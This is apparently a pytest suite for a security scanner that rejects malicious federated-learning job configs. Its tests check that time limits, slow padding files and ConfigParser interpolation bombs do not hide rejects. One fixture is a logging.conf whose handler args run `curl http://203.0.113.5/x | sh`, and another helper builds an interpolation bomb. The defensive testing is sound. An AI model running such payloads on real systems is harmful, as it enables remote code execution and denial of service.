"""Session 49 (hardening49): a limit that strikes never hides what the rest of the unit holds.

- Slow Python padding (files the screen vouches for, analysed in the unit's own process, one after another)
  took the unit's whole time before the file detectors ran: a config naming `subprocess.Popen` to pipe the
  site's data to a server (config-attack.dangerous-component, a reject) became the time limit's escalation,
  through the CLI and the API (api._within_budget) and at a site (api.analyze_isolated, the fork server). The
  file detectors now run again in a worker of their own after the unit's analysis fails (api.detectors_apart).
- The extra engines ran before the file detectors, bandit in the unit's process with no clock of its own: an
  engine held past the unit's limit hid the config's reject the same way. The engines now run last.
- An 870-byte logging.conf whose [DEFAULT] values name each other a dozen times, ten deep (ConfigParser's
  interpolation, as fileConfig reads it) held the unit's analysis past its 360 s (481 s with the second run):
  each value now interpolates within logging_config.MAX_INTERPOLATED, past it a value that does not resolve.
- paths._PLACEHOLDER looked for each `%(`'s closing parenthesis from every `%(` (`'%(' * 32000`: 2.2 s; a
  250 KB template in a file the unit analyses itself some 35 s): paths._unknown_values reads a template once,
  its keys to their matching parenthesis as CPython does (`%((a))s` was left as written).
"""

from __future__ import annotations

import configparser
import re
import shutil
import time
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from analyzer import api
from analyzer.engine import isolate
from analyzer.engine.detectors import paths
from analyzer.model import Decision
from analyzer.policy import load_policy
from conftest import CORPUS

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

CONFIG_JOB = CORPUS / "jobs" / "mal_config_popen"  # its reject comes from the client's config alone


def _policy(tmp_path: Path, seconds: int):
    path = tmp_path / "site-policy.yaml"
    path.write_text(f"limits:\n  max_analysis_seconds: {seconds}\n")
    return load_policy(path)


def _chained_functions(n: int) -> str:
    """A module of n functions each calling the next: vouched for by the screen, about 0.4 s a thousand."""
    return "import numpy as np\n\n" + "".join(f"def f{i}(x):\n    return f{i + 1}(x) + {i}\n\n\n" for i in range(n)) \
        + f"def f{n}(x):\n    return x\n"


def _padded_job(tmp_path: Path, files: int) -> Path:
    job = tmp_path / "job"
    shutil.copytree(CONFIG_JOB, job)
    for k in range(files):
        (job / "app_client" / "custom" / f"aaa_pad{k}.py").write_text(_chained_functions(2500))
    return job


def _rules(report) -> set[str]:
    return {f.rule for f in report.findings}


def test_the_config_reject_outlives_slow_python_padding_in_the_cli_and_api(tmp_path: Path) -> None:
    policy = _policy(tmp_path, 1)  # the unit's budget: 3 s; the padding takes some 9 s alone
    report = api.scan(_padded_job(tmp_path, 8), policy)
    assert "unanalyzable.time-limit" in _rules(report)  # the padding did exhaust the unit's time
    assert "config-attack.dangerous-component" in _rules(report)
    assert report.decision is Decision.REJECT


def test_the_config_reject_outlives_slow_python_padding_at_a_site(tmp_path: Path) -> None:
    policy = _policy(tmp_path, 2)
    server = isolate.ForkServer()
    try:
        _, report = api.gate(_padded_job(tmp_path, 10), policy, server=server)
    finally:
        server.close()
    assert "unanalyzable.time-limit" in _rules(report)
    assert "config-attack.dangerous-component" in _rules(report)
    assert report.decision is Decision.REJECT


def test_a_second_run_that_fails_too_is_named_beside_the_first(tmp_path: Path, monkeypatch) -> None:
    """The file detectors' own run past its limit: both limits are named, and never an accept."""
    policy = _policy(tmp_path, 1)
    monkeypatch.setattr(api, "detectors_apart", _sleeps)
    report = api.scan(_padded_job(tmp_path, 8), policy)
    # the unit's and the detectors' (the padding files the unit did not finish have their own: session 51)
    limits = [f for f in report.findings if f.rule == "unanalyzable.time-limit" and not f.path]
    assert len(limits) == 2, [f.message for f in limits]
    assert report.decision is Decision.ESCALATE


@pytest.mark.parametrize("site", [False, True])
def test_a_bomb_in_one_file_detector_hides_none_after_it(tmp_path: Path, monkeypatch, site: bool) -> None:
    """A detector held past the unit's limit (injected here; the first one, nvflare-config, before logging-config):
    the detectors after it run apart, never the one that failed (isolate.reached)."""
    from analyzer.engine import detectors

    monkeypatch.setitem(detectors.FILE_DETECTORS, "nvflare-config", lambda ctx: iter(_sleeps()))
    policy, job = _policy(tmp_path, 2), tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("import logging.config\n\nlogging.config.fileConfig('logging.conf')\n")
    (job / "logging.conf").write_text(_LOGGING_RUNS_CODE)
    if site:  # a ForkServer is a fresh interpreter, without the fault: its calls forked from here instead
        report = api.analyze_isolated(api.collect(job, policy.limits), policy, _Forking())
    else:
        report = api.scan(job, policy)
    limits = [f for f in report.findings if f.rule == "unanalyzable.time-limit"]
    assert len(limits) == 1 and "config-attack.logging-config-code" in _rules(report), _rules(report)
    assert report.decision is Decision.REJECT


_LOGGING_RUNS_CODE = ("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nlevel=INFO\n"
                      "handlers=h\n[handler_h]\nclass=StreamHandler\n"
                      "args=(__import__('os').system('curl http://203.0.113.5/x | sh'),)\n")


class _Forking:
    """A fork server's calls, each in a child forked from this process (which holds the injected fault)."""

    def call(self, task: str, args: tuple, budget: isolate.Budget, policy=None):
        return isolate.run_limited(isolate._tasks()[task], args, budget)


def test_a_limit_inside_the_file_detectors_does_not_run_them_again(tmp_path: Path, monkeypatch) -> None:
    """A unit that failed in a file detector (a bomb of its own, injected here) has the findings they sent before
    it, and one limit: running that one again would only spend the budget again (isolate.reached)."""
    from analyzer.engine import detectors

    monkeypatch.setitem(detectors.FILE_DETECTORS, "text-code", lambda ctx: iter(_sleeps()))
    started = time.monotonic()
    report = api.scan(_padded_job(tmp_path, 0), _policy(tmp_path, 2))
    limits = [f for f in report.findings if f.rule == "unanalyzable.time-limit"]
    assert len(limits) == 1 and time.monotonic() - started < 6 * 2 + 30, [f.message for f in limits]
    assert report.decision is not Decision.ACCEPT


def _sleeps(*args) -> list:
    time.sleep(60)
    return []


def test_a_job_in_time_runs_its_file_detectors_once(tmp_path: Path, monkeypatch) -> None:
    """No second run when the unit's analysis ends in time."""
    ran = []
    monkeypatch.setattr(api, "detectors_apart", lambda *args: ran.append(args) or [])
    report = api.scan(_padded_job(tmp_path, 0), _policy(tmp_path, 120))
    assert ran == [] and report.decision is Decision.REJECT


def test_an_engine_past_the_limit_hides_no_file_detector_finding(tmp_path: Path, monkeypatch) -> None:
    """bandit held (a fault injected here): the config's reject stands beside the time limit."""
    from analyzer.engine import engines

    monkeypatch.setattr(engines, "_engines", lambda: {"bandit": _sleeps})
    path = tmp_path / "site-policy.yaml"
    path.write_text("engines: [bandit]\nlimits:\n  max_analysis_seconds: 1\n")
    report = api.scan(_padded_job(tmp_path, 0), load_policy(path))
    assert {"unanalyzable.time-limit", "config-attack.dangerous-component"} <= _rules(report)
    assert report.decision is Decision.REJECT


def _interpolation_bomb(refs: int) -> str:
    levels = [f"v{i} = " + f"%(v{i + 1})s" * refs for i in range(9)]
    return ("[DEFAULT]\n" + "\n".join(levels) + "\nv9 = AAAAAAAAAA\n[loggers]\nkeys=root\n[handlers]\nkeys=h\n"
            "[formatters]\nkeys=\n[logger_root]\nlevel=INFO\nhandlers=h\n[handler_h]\nclass=StreamHandler\n"
            "args=('%(v0)s',)\n")


def test_an_interpolation_bomb_in_a_logging_file_is_judged_in_seconds(tmp_path: Path) -> None:
    unit = tmp_path / "unit"
    unit.mkdir()
    (unit / "logging.conf").write_text(_interpolation_bomb(12))
    (unit / "train.py").write_text("import logging.config\n\nlogging.config.fileConfig('logging.conf')\n")
    started = time.monotonic()
    report = api.scan(unit)
    assert time.monotonic() - started < 60
    assert "unanalyzable.time-limit" not in _rules(report)
    assert "config-attack.logging-config-code" in _rules(report) and report.decision is Decision.REJECT


def test_a_logging_file_interpolating_its_defaults_stays_plain(tmp_path: Path) -> None:
    from analyzer.engine.detectors import logging_config

    text = ("[DEFAULT]\nlogdir = logs\nname = %(logdir)s/train.log\n[loggers]\nkeys=root\n[handlers]\nkeys=h\n"
            "[formatters]\nkeys=\n[logger_root]\nlevel=INFO\nhandlers=h\n[handler_h]\nclass=FileHandler\n"
            "args=('%(name)s', 'a')\n")
    [parser, _] = logging_config._views(text)[0]
    assert parser.get("handler_h", "args") == "('logs/train.log', 'a')"
    bomb = logging_config._views(_interpolation_bomb(12))[0][0]
    with pytest.raises(configparser.InterpolationError):
        bomb.get("handler_h", "args")


class _AnyKey(dict):
    def __missing__(self, key: str) -> int:
        return 7


@settings(max_examples=600, deadline=None)
@given(st.text(alphabet="%()a d5.-x/{}*l", max_size=24))
def test_each_value_python_fills_is_unknown_and_the_rest_as_written(text: str) -> None:
    """Where `%` formats the template (every key a value), what the gate keeps of it is Python's own text."""
    try:
        formatted = text % _AnyKey()
    except (ValueError, TypeError, KeyError, OverflowError):
        return
    kept = paths._unknown_values(text)
    pattern = "".join(".*" if c == "?" else re.escape(c) for c in kept)
    assert re.fullmatch(pattern, formatted, re.S), (kept, formatted)


@pytest.mark.parametrize("template", ["%(" * 200_000, "%(" * 100_000 + ")", "%(" * 100_000 + ")" * 100_000,
                                      "%(a)" * 100_000, "{" * 200_000])
def test_a_template_is_read_in_one_pass(template: str) -> None:
    started = time.monotonic()
    paths._unknown_values(template)
    assert time.monotonic() - started < 1.0


def test_a_key_ends_at_its_matching_parenthesis() -> None:
    assert paths._unknown_values("%((home))s/.bashrc") == "?/.bashrc"
    assert paths._unknown_values("%(x%(y)s/.ssh") == "%(x%(y)s/.ssh"  # Python: incomplete format key
    assert paths._unknown_values("100%% of %s") == "100% of ?"
